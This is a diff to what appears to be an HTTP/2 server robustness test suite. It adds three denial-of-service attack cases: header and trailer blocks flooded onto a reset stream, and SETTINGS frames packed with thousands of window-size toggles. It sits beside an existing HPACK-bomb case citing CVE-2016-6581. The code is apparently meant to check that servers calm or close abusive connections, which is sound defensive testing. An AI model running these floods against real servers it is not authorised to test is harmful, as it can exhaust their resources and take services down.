@@ -46,6 +46,18 @@ attack('hpack-bomb', 'CVE-2016-6581: one large entry, referred to thousands of t
   const references = Buffer.concat(Array(15_000).fill(indexed(62)));
   await a.flood(wire, (i) => headers(id(i + 1), Buffer.concat([request(a.target), references])), { batch: 2 });
 }, { count: 500 });
+attack('headers-after-reset', 'field blocks of a stream that was reset, each megabytes of fields', calmed, async (a) => {
+  const wire = await a.open();
+  // Malformed and not ended: the server resets it, and what follows looks like its trailers.
+  wire?.send(headers(1, literal('Upper', 'x'), flag.END_HEADERS), headers(3, Buffer.concat([request(a.target), added('n'.repeat(4064), '')])));
+  const again = Buffer.alloc(16_384, Buffer.from([0x7e, 0]));  // the name of entry 62, which takes its place
+  await a.flood(wire, () => headers(1, again, flag.END_HEADERS), { batch: 2 });
+}, { count: 2000 });
+attack('trailers-after-reset', 'small field blocks of a stream that was reset, without end', calmed, async (a) => {
+  const wire = await a.open();
+  wire?.send(headers(1, literal('Upper', 'x'), flag.END_HEADERS));
+  await a.flood(wire, () => headers(1, indexed(2), flag.END_HEADERS));
+});
 attack('table-churn', 'every field evicts the whole table', answered(200, 431), async (a) => {
   const wire = await a.open();
   const fields = Buffer.concat(Array.from({ length: 4 }, (_, n) => added(`x-${n}`, String(n).repeat(3500))));
@@ -74,6 +86,12 @@ attack('settings-toggle', 'SETTINGS_INITIAL_WINDOW_SIZE up and down with many st
   for (let i = 0; i < 100 && wire; i += 1) wire.send(get(a, i, { path: a.target.large }));
   await a.flood(wire, (i) => settings({ INITIAL_WINDOW_SIZE: i % 2 }));
 });
+attack('settings-many-entries', 'the same, 2,730 times in each frame', calmed, async (a) => {
+  const wire = await a.open({ values: { INITIAL_WINDOW_SIZE: 0 } });
+  for (let i = 0; i < 256 && wire; i += 1) wire.send(get(a, i, { path: a.target.large }));
+  const entries = Buffer.concat(Array.from({ length: 2730 }, (_, i) => Buffer.from([0, 4, 0, 0, 0, i % 2])));
+  await a.flood(wire, () => frame(type.SETTINGS, 0, 0, entries), { batch: 4 });
+}, { count: 2000 });
 attack('settings-unread', 'SETTINGS whose acknowledgements are not read', (account) => (account.closed > 0 || account.goaways.ENHANCE_YOUR_CALM ? '' : 'the connection lives'), async (a) => {
   const wire = await a.open();
   wire?.socket.pause();
